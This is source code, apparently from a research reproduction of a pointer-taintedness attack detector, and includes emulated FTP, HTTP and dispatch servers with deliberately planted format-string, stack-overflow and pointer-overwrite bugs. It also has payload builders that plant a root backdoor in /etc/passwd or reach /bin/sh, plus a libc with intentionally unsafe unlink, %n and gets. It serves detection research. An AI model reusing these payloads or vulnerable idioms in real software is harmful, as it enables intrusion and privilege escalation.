    cmd.extend_from_slice(&uid_addr.to_le_bytes());
    cmd.extend_from_slice("%x".repeat(pad).as_bytes());
    cmd.extend_from_slice(b"%n");
    cmd
}

/// Address of the attacked `session_uid` word.
///
/// # Panics
///
/// Panics if the image does not contain the symbol (wrong program).
#[must_use]
pub fn uid_address(image: &Image) -> u32 {
    image
        .symbol("session_uid")
        .expect("wu_ftpd defines session_uid")
}

/// The full attack session of Table 2: authenticate, fire the format
/// string, then attempt to replace `/etc/passwd` with a root backdoor.
#[must_use]
pub fn attack_world(image: &Image, pad: usize) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"USER user1".to_vec(),
        b"PASS xxxxxxx".to_vec(),
        site_exec_payload(uid_address(image), pad),
        b"STOR /etc/passwd".to_vec(),
        b"QUIT".to_vec(),
    ]))
}

/// A benign FTP session (used for the false-positive check).
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"USER user1".to_vec(),
        b"PASS xxxxxxx".to_vec(),
        b"SITE EXEC ls -l".to_vec(),
        b"STOR /etc/passwd".to_vec(), // denied: anonymous uid
        b"QUIT".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::{calibrate_format_pad, run_app};
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn uid_word_sits_at_a_nul_free_address() {
        let image = image();
        let addr = uid_address(&image);
        assert!(
            addr.to_le_bytes().iter().all(|&b| b != 0),
            "session_uid at {addr:#x} must have no NUL bytes for the format payload"
        );
    }

    #[test]
    fn attack_detected_at_the_percent_n_store() {
        let image = image();
        let target = uid_address(&image);
        let pad = calibrate_format_pad(&image, |p| attack_world(&image, p), target, 48)
            .expect("a pad count must land ap on the embedded address");
        let out = run_app(
            &image,
            attack_world(&image, pad),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("detected");
        // Table 2's alert: a store-word through the tainted uid address.
        assert_eq!(alert.kind, AlertKind::DataPointer);
        assert_eq!(alert.pointer, target);
        assert!(alert.instr.to_string().starts_with("sw "));
        // The attack was stopped before the backdoor was planted.
        assert!(out.stdout_text().is_empty() || !out.stdout_text().contains("alice"));
    }

    #[test]
    fn attack_succeeds_without_protection_planting_backdoor() {
        let image = image();
        let target = uid_address(&image);
        let pad = calibrate_format_pad(&image, |p| attack_world(&image, p), target, 48).unwrap();
        let (mut cpu, mut os) = ptaint_os::load(
            &image,
            attack_world(&image, pad),
            DetectionPolicy::Off,
            ptaint_mem::HierarchyConfig::flat(),
        );
        let out = ptaint_os::run_to_exit(&mut cpu, &mut os, crate::apps::STEP_LIMIT);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        // The session transcript shows the privileged transfer was accepted…
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("226 transfer complete"), "{transcript}");
        // …and the backdoor account is in /etc/passwd.
        let passwd = os.file("/etc/passwd").expect("passwd written");
        assert!(passwd.starts_with(b"alice:x:0:0::/home/root:/bin/bash"));
    }

    #[test]
    fn attack_missed_by_control_only_baseline() {
        let image = image();
        let target = uid_address(&image);
        let pad = calibrate_format_pad(&image, |p| attack_world(&image, p), target, 48).unwrap();
        let out = run_app(
            &image,
            attack_world(&image, pad),
            DetectionPolicy::ControlOnly,
        );
        // Non-control-data attack: no control transfer is ever corrupted.
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn benign_session_is_clean_and_permission_checked() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("220 FTP server"));
        assert!(transcript.contains("230 User logged in"));
        assert!(transcript.contains("550 permission denied"), "{transcript}");
    }
}
