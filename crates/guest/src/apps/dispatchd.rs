//! A dispatch-table daemon — the **GOT-overwrite-style control-data
//! attack** (the paper's footnote 3 describes GOT entries as classic
//! control-data targets).
//!
//! The server routes commands through a global table of function pointers
//! sitting directly after a writable settings array. The `POKE` command has
//! a flawed bound check (`<=` instead of `<`), so index `N` writes four
//! raw, attacker-supplied bytes over the first handler pointer. The next
//! dispatched command jumps through the corrupted pointer.
//!
//! Because this *is* a control-data attack, both full pointer-taintedness
//! detection **and** the Minos-style control-only baseline catch it at the
//! `jalr` — making the coverage matrix's baseline column meaningful in both
//! directions (control-data rows detected, non-control rows missed).

use ptaint_os::{NetSession, WorldConfig};

/// The dispatch daemon: `STAT`, `SET <idx> <val>`, `POKE <idx> <4 bytes>`,
/// `QUIT`.
pub const SOURCE: &str = r#"
int settings[4];
int (*handlers[2])(int);        /* directly after settings in .data */

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

int handle_stat(int s) {
    char line[64];
    snprintf(line, 60, "200 settings %d %d %d %d\r\n",
             settings[0], settings[1], settings[2], settings[3]);
    reply(s, line);
    return 0;
}

int handle_quit(int s) {
    reply(s, "221 bye\r\n");
    return 1;
}

int main() {
    char req[128];
    int s;
    int c;
    int n;
    int idx;
    char *p;
    handlers[0] = handle_stat;
    handlers[1] = handle_quit;
    s = socket();
    bind(s, 9000);
    listen(s);
    c = accept(s);
    while (1) {
        n = recv(c, req, 127, 0);
        if (n <= 0) break;
        req[n] = 0;
        if (strncmp(req, "SET ", 4) == 0) {
            idx = atoi(req + 4);
            p = strchr(req + 4, ' ');
            if (idx >= 0 && idx <= 4 && p) {     /* BUG: <= admits idx 4 */
                settings[idx] = atoi(p + 1);
                reply(c, "200 set\r\n");
            } else {
                reply(c, "500 bad index\r\n");
            }
        } else if (strncmp(req, "POKE ", 5) == 0) {
            idx = atoi(req + 5);
            p = strchr(req + 5, ' ');
            if (idx >= 0 && idx <= 4 && p) {     /* BUG: <= admits idx 4 */
                memcpy((char *)&settings[idx], p + 1, 4);
                reply(c, "200 poked\r\n");
            } else {
                reply(c, "500 bad index\r\n");
            }
        } else if (strncmp(req, "STAT", 4) == 0) {
            if (handlers[0](c)) break;           /* jalr through the table */
        } else if (strncmp(req, "QUIT", 4) == 0) {
            if (handlers[1](c)) break;
        } else {
            reply(c, "500 unknown\r\n");
        }
    }
    close(c);
    return 0;
}
"#;

/// The attack session: `POKE 4 aaaa` writes the raw tainted bytes
/// `0x61616161` over `handlers[0]`; the following `STAT` dispatch jumps
/// through it.
#[must_use]
pub fn attack_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"POKE 4 aaaa".to_vec(),
        b"STAT".to_vec(),
    ]))
}

/// A benign session exercising the in-bounds paths.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"SET 2 77".to_vec(),
        b"STAT".to_vec(),
        b"SET 9 1".to_vec(), // rejected
        b"QUIT".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    #[test]
    fn table_layout_places_handlers_after_settings() {
        let image = build(SOURCE).unwrap();
        let settings = image.symbol("settings").unwrap();
        let handlers = image.symbol("handlers").unwrap();
        assert_eq!(
            handlers,
            settings + 16,
            "settings[4] must alias handlers[0]"
        );
    }

    #[test]
    fn got_style_attack_detected_by_both_policies_at_the_jalr() {
        let image = build(SOURCE).unwrap();
        for policy in [
            DetectionPolicy::PointerTaintedness,
            DetectionPolicy::ControlOnly,
        ] {
            let out = run_app(&image, attack_world(), policy);
            let alert = out
                .reason
                .alert()
                .unwrap_or_else(|| panic!("{policy}: {:?}", out.reason));
            assert_eq!(alert.kind, AlertKind::JumpPointer, "{policy}");
            assert_eq!(alert.pointer, 0x6161_6161, "{policy}");
            assert!(
                alert.instr.to_string().starts_with("jalr"),
                "{policy}: {}",
                alert.instr
            );
        }
    }

    #[test]
    fn attack_crashes_wild_without_protection() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, attack_world(), DetectionPolicy::Off);
        assert!(
            matches!(
                out.reason,
                ExitReason::MemFault(_) | ExitReason::DecodeFault(_)
            ),
            "{:?}",
            out.reason
        );
    }

    #[test]
    fn benign_session_exercises_bounds() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let t = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(t.contains("200 settings 0 0 77 0"), "{t}");
        assert!(t.contains("500 bad index"), "{t}");
        assert!(t.contains("221 bye"), "{t}");
    }
}
