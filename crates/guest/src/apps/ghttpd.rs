//! A GHTTPD-style web server with the *Log() stack buffer overflow*
//! (BID-5960), reproducing the paper's §5.1.2 experiment.
//!
//! The handler keeps a URL pointer and a 200-byte log buffer in the same
//! stack frame, with the pointer at the higher address. The HTTP security
//! policy (reject any URL containing `"/.."`) is checked *before* the
//! request line is copied into the log buffer with an unbounded `strcpy`.
//! A 204-byte request therefore overwrites the already-validated URL
//! pointer — the paper's **non-control-data** attack: the last four bytes
//! redirect it to a second, illegitimate URL
//! (`/cgi-bin/../../../../bin/sh`) smuggled later in the request, giving
//! the attacker an unrestricted root shell.
//!
//! Pointer-taintedness detection stops the attack at the first load-byte
//! through the corrupted (tainted) URL pointer, as the paper reports.

use ptaint_asm::Image;
use ptaint_os::{NetSession, WorldConfig};

/// The server. The request buffer is a global (GHTTPD's lives on the
/// stack; a global keeps the exploit's second-URL address computable from
/// the symbol table without changing the corrupted-pointer data flow).
pub const SOURCE: &str = r#"
char req[1024];

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

/* The vulnerable logging helper: unbounded copy into a 200-byte buffer
 * (GHTTPD's Log()). */
void log_request(char *logbuf, char *request) {
    strcpy(logbuf, request);
}

void serve_url(int s, char *url) {
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        reply(s, "200 OK EXEC ");
        reply(s, url);              /* dereferences the URL pointer */
        reply(s, "\r\n");
        return;
    }
    reply(s, "200 OK static ");
    reply(s, url);
    reply(s, "\r\n");
}

void handle(int s) {
    char *url;                      /* sits just above logbuf */
    char logbuf[200];
    int n;
    n = recv(s, req, 1020, 0);
    if (n <= 0) return;
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        reply(s, "400 bad request\r\n");
        return;
    }
    url = req + 4;
    /* HTTP security policy: no escaping the document root. */
    if (strstr(url, "/..")) {
        reply(s, "403 forbidden\r\n");
        return;
    }
    log_request(logbuf, req);       /* overflow: corrupts url */
    serve_url(s, url);              /* dereferences the corrupted pointer */
}

int main() {
    int s;
    int c;
    s = socket();
    bind(s, 80);
    listen(s);
    c = accept(s);
    handle(c);
    close(c);
    return 0;
}
"#;

/// Builds the attack request:
///
/// ```text
/// [0..200)   "GET /cgi-bin/x" + 'A' filler      (passes the "/.." check)
/// [200..204) address of the second URL below     (overwrites `url`)
/// [204]      NUL                                 (ends the strcpy)
/// [208..)    "/cgi-bin/../../../../bin/sh\0"     (the illegitimate URL)
/// ```
#[must_use]
pub fn attack_request(image: &Image) -> Vec<u8> {
    let req_base = image.symbol("req").expect("ghttpd defines req");
    let mut request = b"GET /cgi-bin/x HTTP/1.0 ".to_vec();
    request.resize(200, b'A');
    request.extend_from_slice(&(req_base + 208).to_le_bytes());
    request.push(0); // terminate the strcpy right after the pointer
    request.resize(208, 0);
    request.extend_from_slice(b"/cgi-bin/../../../../bin/sh\0");
    request
}

/// The attack session.
#[must_use]
pub fn attack_world(image: &Image) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![attack_request(image)]))
}

/// A benign session; also exercises the 403 policy path.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![b"GET /index.html HTTP/1.0".to_vec()]))
}

/// A session whose URL violates the "/.." policy — rejected up front.
#[must_use]
pub fn policy_violation_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"GET /cgi-bin/../../etc/passwd HTTP/1.0".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_isa::Instr;
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn attack_detected_at_load_byte_through_tainted_url_pointer() {
        let image = image();
        let out = run_app(
            &image,
            attack_world(&image),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The paper: "stops the attack when the tainted URL pointer is
        // dereferenced in a load-byte instruction (LB)".
        assert!(
            matches!(
                alert.instr,
                Instr::Load {
                    width: ptaint_isa::MemWidth::Byte,
                    ..
                }
            ),
            "{}",
            alert.instr
        );
        // The pointer is the smuggled second-URL address.
        let req_base = image.symbol("req").unwrap();
        assert_eq!(alert.pointer, req_base + 208);
    }

    #[test]
    fn attack_escapes_document_root_without_protection() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::Off);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(
            transcript.contains("EXEC /cgi-bin/../../../../bin/sh"),
            "policy bypassed: {transcript}"
        );
    }

    #[test]
    fn attack_missed_by_control_only_baseline() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn benign_and_policy_paths_are_clean() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0));
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(
            transcript.contains("200 OK static /index.html"),
            "{transcript}"
        );

        let out = run_app(
            &image,
            policy_violation_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("403 forbidden"), "{transcript}");
    }
}
