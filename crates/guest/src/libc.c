/* ptaint-guest libc — the guest-side C runtime library.
 *
 * Everything here compiles with ptaint-cc and runs on the taint-tracking
 * CPU. The library deliberately reproduces the *vulnerable* idioms of the
 * C libraries the DSN 2005 paper attacks:
 *
 *   - malloc/free use boundary tags with a doubly-linked free list and the
 *     classic unchecked `unlink` (fd/bk) — the heap-corruption attack path
 *     (paper Figure 2, exp2; NULL HTTPD §5.1.2; traceroute double free);
 *   - printf-family formatting walks a stack argument pointer and supports
 *     `%n` — the format-string attack path (exp3; WU-FTPD §5.1.2);
 *   - scanf("%s"), gets() and strcpy() are unbounded — the stack-smashing
 *     path (exp1; GHTTPD §5.1.2).
 *
 * Names prefixed `__` are internal. All syscall stubs (read, write, open,
 * close, brk, getuid, socket, bind, listen, accept, recv, send, exit) are
 * provided in assembly by the runtime module.
 */

int read(int fd, char *buf, int len);
int write(int fd, char *buf, int len);
int open(char *path, int flags);
int close(int fd);
unsigned brk(unsigned addr);
int getuid();
/* Range validation helper (assembly): returns v clamped to [lo, hi] with
 * the compare-untaint applied to the result — see the runtime module. */
int checked_index(int v, int lo, int hi);
int socket();
int bind(int fd, int port);
int listen(int fd);
int accept(int fd);
int recv(int fd, char *buf, int len, int flags);
int send(int fd, char *buf, int len);
void exit(int status);

/* ---------------- string/memory ---------------- */

unsigned strlen(char *s) {
    unsigned n = 0;
    while (s[n]) n++;
    return n;
}

/* Unbounded copy — the stack-smashing primitive. */
char *strcpy(char *dst, char *src) {
    int i = 0;
    while (src[i]) { dst[i] = src[i]; i++; }
    dst[i] = 0;
    return dst;
}

char *strncpy(char *dst, char *src, int n) {
    int i = 0;
    while (i < n && src[i]) { dst[i] = src[i]; i++; }
    while (i < n) { dst[i] = 0; i++; }
    return dst;
}

char *strcat(char *dst, char *src) {
    strcpy(dst + strlen(dst), src);
    return dst;
}

int strcmp(char *a, char *b) {
    int i = 0;
    while (a[i] && b[i] && a[i] == b[i]) i++;
    return (a[i] & 0xff) - (b[i] & 0xff);
}

int strncmp(char *a, char *b, int n) {
    int i = 0;
    while (i < n) {
        if ((a[i] & 0xff) != (b[i] & 0xff)) return (a[i] & 0xff) - (b[i] & 0xff);
        if (!a[i]) return 0;
        i++;
    }
    return 0;
}

char *strchr(char *s, int c) {
    while (*s) {
        if ((*s & 0xff) == (c & 0xff)) return s;
        s++;
    }
    if (c == 0) return s;
    return 0;
}

/* Naive substring search (enough for header / ".." policy checks). */
char *strstr(char *hay, char *needle) {
    int nl = strlen(needle);
    if (nl == 0) return hay;
    while (*hay) {
        if (strncmp(hay, needle, nl) == 0) return hay;
        hay++;
    }
    return 0;
}

void *memset(void *p, int c, unsigned n) {
    char *b = (char *)p;
    unsigned i;
    for (i = 0; i < n; i++) b[i] = c;
    return p;
}

void *memcpy(void *dst, void *src, unsigned n) {
    char *d = (char *)dst;
    char *s = (char *)src;
    unsigned i;
    for (i = 0; i < n; i++) d[i] = s[i];
    return dst;
}

int memcmp(void *a, void *b, unsigned n) {
    char *x = (char *)a;
    char *y = (char *)b;
    unsigned i;
    for (i = 0; i < n; i++) {
        if ((x[i] & 0xff) != (y[i] & 0xff)) return (x[i] & 0xff) - (y[i] & 0xff);
    }
    return 0;
}

/* atoi validates every digit (range compare), so per the paper's Table 1
 * compare rule the converted value is *untainted*: validated input is
 * trusted. This is why a length computed from attacker input can still
 * drive a vulnerable malloc without tripping the detector — exactly the
 * NULL HTTPD scenario (§5.1.2), and also why the flawed bound check of
 * Table 4(A) escapes detection. */
int atoi(char *s) {
    int v = 0;
    int neg = 0;
    int d;
    while (*s == ' ' || *s == '\t') s++;
    if (*s == '-') { neg = 1; s++; }
    else if (*s == '+') s++;
    while (*s >= '0' && *s <= '9') {
        d = checked_index(*s - '0', 0, 9);   /* digit range validation */
        v = v * 10 + d;
        s++;
    }
    if (neg) return -v;
    return v;
}

/* ---------------- heap allocator ----------------
 *
 * Boundary-tag allocator in the dlmalloc tradition:
 *
 *   chunk layout: [prev_size][size|INUSE][payload ...]
 *   free payload: [fd][bk] — doubly-linked list through a sentinel bin.
 *
 * `__unlink` performs the classic unchecked `fd->bk = bk; bk->fd = fd;`.
 * When an attacker overflows a buffer into the following free chunk, the
 * fd/bk words become tainted, and the unlink during free()'s forward
 * coalescing dereferences a tainted pointer — the alert the paper reports
 * inside free() for exp2, NULL HTTPD, and traceroute.
 */

struct __chunk {
    unsigned prev_size;
    unsigned size;          /* low bit: in use */
    struct __chunk *fd;     /* only valid when free */
    struct __chunk *bk;
};

struct __chunk __bin;       /* sentinel: fd/bk circular list head */
int __heap_ready;
unsigned __heap_top;        /* current break (first unowned byte) */

unsigned __csize(struct __chunk *c) { return c->size & 0xfffffffe; }

struct __chunk *__cnext(struct __chunk *c) {
    return (struct __chunk *)((char *)c + __csize(c));
}

void __unlink(struct __chunk *c) {
    struct __chunk *f = c->fd;
    struct __chunk *b = c->bk;
    f->bk = b;              /* << attack detection point: tainted f */
    b->fd = f;
}

void __insert(struct __chunk *c) {
    c->fd = __bin.fd;
    c->bk = &__bin;
    __bin.fd->bk = c;
    __bin.fd = c;
}

void __heap_init() {
    __bin.fd = &__bin;
    __bin.bk = &__bin;
    __heap_top = brk(0);
    __heap_ready = 1;
}

void *malloc(unsigned n) {
    unsigned need;
    struct __chunk *c;
    struct __chunk *r;
    if (!__heap_ready) __heap_init();
    need = ((n + 7) & 0xfffffff8) + 8;
    if (need < 24) need = 24;
    c = __bin.fd;
    while (c != &__bin) {
        if (__csize(c) >= need) {
            __unlink(c);
            if (__csize(c) >= need + 24) {
                /* split: the remainder becomes a free chunk right after the
                 * allocation — the physical neighbour the heap attacks
                 * overflow into. */
                r = (struct __chunk *)((char *)c + need);
                r->prev_size = need;
                r->size = __csize(c) - need;
                __insert(r);
                c->size = need | 1;
            } else {
                c->size = __csize(c) | 1;
            }
            return (char *)c + 8;
        }
        c = c->fd;
    }
    /* grow the heap */
    c = (struct __chunk *)__heap_top;
    brk(__heap_top + need);
    c->prev_size = 0;
    c->size = need | 1;
    __heap_top = __heap_top + need;
    return (char *)c + 8;
}

void free(void *p) {
    struct __chunk *c;
    struct __chunk *n;
    if (!p) return;
    c = (struct __chunk *)((char *)p - 8);
    if (!(c->size & 1)) {
        /* Double free: the chunk is already linked into the bin. Like the
         * historical dlmalloc, take it off the list before re-inserting —
         * through fd/bk words the program may have scribbled over since
         * (the traceroute attack). */
        __unlink(c);
    }
    c->size = __csize(c);
    n = __cnext(c);
    if ((unsigned)n + 8 <= __heap_top && !(n->size & 1) && __csize(n) >= 24) {
        /* forward coalescing: unlink the physical neighbour (exp2 and
         * NULL HTTPD attack path). */
        __unlink(n);
        c->size = __csize(c) + __csize(n);
    }
    __insert(c);
}

void *calloc(unsigned count, unsigned size) {
    unsigned total = count * size;
    void *p = malloc(total);
    memset(p, 0, total);
    return p;
}

void *realloc(void *p, unsigned n) {
    struct __chunk *c;
    unsigned old_payload;
    void *q;
    if (!p) return malloc(n);
    if (n == 0) { free(p); return 0; }
    c = (struct __chunk *)((char *)p - 8);
    old_payload = __csize(c) - 8;
    if (old_payload >= n) return p;      /* shrink in place */
    q = malloc(n);
    memcpy(q, p, old_payload);
    free(p);
    return q;
}

/* ---------------- character I/O ---------------- */

int getchar() {
    char c;
    int n = read(0, &c, 1);
    if (n <= 0) return -1;
    return c & 0xff;
}

int putchar(int c) {
    char b = c;
    write(1, &b, 1);
    return c & 0xff;
}

/* Unbounded line read — the classic gets() hazard. */
char *gets(char *buf) {
    int i = 0;
    int c = getchar();
    if (c < 0) return 0;
    while (c >= 0 && c != '\n') {
        buf[i] = c;
        i++;
        c = getchar();
    }
    buf[i] = 0;
    return buf;
}

/* ---------------- formatted output ----------------
 *
 * The core formatter walks `ap` — a pointer up the caller's stack — one
 * word per directive, exactly like vfprintf in the paper's Figure 2. `%n`
 * stores the running count through the word `ap` currently points to:
 * when a format string is attacker-controlled, `ap` can be marched into
 * the attacker's buffer and the `*(int*)ptr = count` store dereferences an
 * attacker-supplied (tainted) pointer.
 *
 * Supported: %s %d %u %x %c %% %n.  Output: fd >= 0 writes to the
 * descriptor; otherwise chars go to *dst (cap < 0 means unbounded).
 */

int __fmt_putc(int fd, char *dst, int cap, int n, int c) {
    char b;
    if (fd >= 0) {
        b = c;
        write(fd, &b, 1);
    } else {
        if (cap < 0 || n < cap - 1) dst[n] = c;
    }
    return n + 1;
}

int __fmt_num(int fd, char *dst, int cap, int n, unsigned v, int base, int neg) {
    char tmp[12];
    int i = 0;
    unsigned d;
    if (neg) n = __fmt_putc(fd, dst, cap, n, '-');
    if (v == 0) return __fmt_putc(fd, dst, cap, n, '0');
    while (v > 0) {
        d = v % base;
        if (d < 10) tmp[i] = '0' + d;
        else tmp[i] = 'a' + (d - 10);
        v = v / base;
        i++;
    }
    while (i > 0) {
        i--;
        n = __fmt_putc(fd, dst, cap, n, tmp[i]);
    }
    return n;
}

int __vformat(int fd, char *dst, int cap, char *fmt, char *ap) {
    int n = 0;
    int v;
    char *s;
    while (*fmt) {
        if (*fmt != '%') {
            n = __fmt_putc(fd, dst, cap, n, *fmt);
            fmt++;
            continue;
        }
        fmt++;
        if (*fmt == 0) break;
        if (*fmt == '%') {
            n = __fmt_putc(fd, dst, cap, n, '%');
        } else if (*fmt == 'd') {
            v = *(int *)ap; ap += 4;
            if (v < 0) n = __fmt_num(fd, dst, cap, n, -v, 10, 1);
            else n = __fmt_num(fd, dst, cap, n, v, 10, 0);
        } else if (*fmt == 'u') {
            n = __fmt_num(fd, dst, cap, n, *(unsigned *)ap, 10, 0); ap += 4;
        } else if (*fmt == 'x') {
            n = __fmt_num(fd, dst, cap, n, *(unsigned *)ap, 16, 0); ap += 4;
        } else if (*fmt == 'c') {
            n = __fmt_putc(fd, dst, cap, n, *(int *)ap); ap += 4;
        } else if (*fmt == 's') {
            s = *(char **)ap; ap += 4;
            while (*s) { n = __fmt_putc(fd, dst, cap, n, *s); s++; }
        } else if (*fmt == 'n') {
            /* The store the paper's Table 2 alert fires on:
             * *ap = count with an attacker-positioned ap. */
            v = *(int *)ap; ap += 4;
            *(int *)v = n;
        } else {
            n = __fmt_putc(fd, dst, cap, n, *fmt);
        }
        fmt++;
    }
    if (fd < 0) {
        if (cap < 0 || n < cap) dst[n] = 0;
        else dst[cap - 1] = 0;
    }
    return n;
}

int printf(char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    return __vformat(1, (char *)0, 0, fmt, ap);
}

int fprintf(int fd, char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    return __vformat(fd, (char *)0, 0, fmt, ap);
}

int sprintf(char *dst, char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    return __vformat(-1, dst, -1, fmt, ap);
}

int snprintf(char *dst, int cap, char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    return __vformat(-1, dst, cap, fmt, ap);
}

/* ---------------- formatted input (scanf subset) ---------------- */

int __scan_string(char *out) {
    int c = getchar();
    int i = 0;
    while (c == ' ' || c == '\t' || c == '\n' || c == '\r') c = getchar();
    if (c < 0) return -1;
    /* Unbounded %s — the exp1 vulnerability. */
    while (c >= 0 && c != ' ' && c != '\t' && c != '\n' && c != '\r') {
        out[i] = c;
        i++;
        c = getchar();
    }
    out[i] = 0;
    return 1;
}

int __scan_int(int *out) {
    int c = getchar();
    int v = 0;
    int neg = 0;
    int any = 0;
    while (c == ' ' || c == '\t' || c == '\n' || c == '\r') c = getchar();
    if (c == '-') { neg = 1; c = getchar(); }
    while (c >= '0' && c <= '9') {
        v = v * 10 + checked_index(c - '0', 0, 9);  /* validated digit */
        any = 1;
        c = getchar();
    }
    if (!any) return -1;
    if (neg) *out = -v;
    else *out = v;
    return 1;
}

/* sscanf: "%s" and "%d" over an in-memory string. */
int sscanf(char *src, char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    int matched = 0;
    int pos = 0;
    int v;
    int neg;
    int any;
    char *out;
    int i;
    while (*fmt) {
        if (*fmt == '%') {
            fmt++;
            while (src[pos] == ' ' || src[pos] == '\t' || src[pos] == '\n' || src[pos] == '\r') pos++;
            if (*fmt == 's') {
                if (!src[pos]) return matched;
                out = *(char **)ap;
                ap += 4;
                i = 0;
                while (src[pos] && src[pos] != ' ' && src[pos] != '\t'
                       && src[pos] != '\n' && src[pos] != '\r') {
                    out[i] = src[pos];
                    i++;
                    pos++;
                }
                out[i] = 0;
                matched++;
            } else if (*fmt == 'd') {
                v = 0;
                neg = 0;
                any = 0;
                if (src[pos] == '-') { neg = 1; pos++; }
                while (src[pos] >= '0' && src[pos] <= '9') {
                    v = v * 10 + checked_index(src[pos] - '0', 0, 9);
                    any = 1;
                    pos++;
                }
                if (!any) return matched;
                if (neg) v = -v;
                **(int **)ap = v;
                ap += 4;
                matched++;
            }
        }
        fmt++;
    }
    return matched;
}

/* Handles "%s" and "%d" directives (one per argument). */
int scanf(char *fmt, ...) {
    char *ap = (char *)&fmt + 4;
    int matched = 0;
    while (*fmt) {
        if (*fmt == '%') {
            fmt++;
            if (*fmt == 's') {
                if (__scan_string(*(char **)ap) < 0) return matched;
                ap += 4;
                matched++;
            } else if (*fmt == 'd') {
                if (__scan_int(*(int **)ap) < 0) return matched;
                ap += 4;
                matched++;
            }
        }
        fmt++;
    }
    return matched;
}

/* ---------------- misc ---------------- */

int abs(int v) {
    if (v < 0) return -v;
    return v;
}

/* Deterministic LCG for the workload programs (no rand syscall needed). */
unsigned __rand_state;

void srand(unsigned seed) { __rand_state = seed; }

int rand() {
    __rand_state = __rand_state * 1103515245 + 12345;
    return (__rand_state >> 16) & 0x7fff;
}

/* ---------------- ctype ---------------- */

int isdigit(int c) { return c >= '0' && c <= '9'; }
int isalpha(int c) {
    if (c >= 'a' && c <= 'z') return 1;
    return c >= 'A' && c <= 'Z';
}
int isspace(int c) {
    return c == ' ' || c == '\t' || c == '\n' || c == '\r';
}
int toupper(int c) {
    if (c >= 'a' && c <= 'z') return c - 32;
    return c;
}
int tolower(int c) {
    if (c >= 'A' && c <= 'Z') return c + 32;
    return c;
}

/* ---------------- sorting & searching ----------------
 *
 * qsort over word-sized elements with a user comparator — exercised
 * through function-pointer indirect calls (jalr), the control transfer
 * the jump taintedness detector guards. */

void __qsort_words(int *base, int lo, int hi, int (*cmp)(int, int)) {
    int pivot;
    int i;
    int j;
    int tmp;
    if (lo >= hi) return;
    pivot = base[(lo + hi) / 2];
    i = lo;
    j = hi;
    while (i <= j) {
        while (cmp(base[i], pivot) < 0) i++;
        while (cmp(base[j], pivot) > 0) j--;
        if (i <= j) {
            tmp = base[i];
            base[i] = base[j];
            base[j] = tmp;
            i++;
            j--;
        }
    }
    __qsort_words(base, lo, j, cmp);
    __qsort_words(base, i, hi, cmp);
}

/* qsort(base, count, cmp): sorts `count` ints in place. */
void qsort(int *base, int count, int (*cmp)(int, int)) {
    if (count > 1) __qsort_words(base, 0, count - 1, cmp);
}

/* Binary search over sorted ints; returns the index or -1. */
int bsearch_int(int *base, int count, int key) {
    int lo = 0;
    int hi = count - 1;
    int mid;
    while (lo <= hi) {
        mid = (lo + hi) / 2;
        if (base[mid] == key) return mid;
        if (base[mid] < key) lo = mid + 1;
        else hi = mid - 1;
    }
    return -1;
}
