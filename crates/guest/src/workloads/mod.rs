//! SPEC-2000-like workload programs for the false-positive experiment
//! (paper §5.2, Table 3).
//!
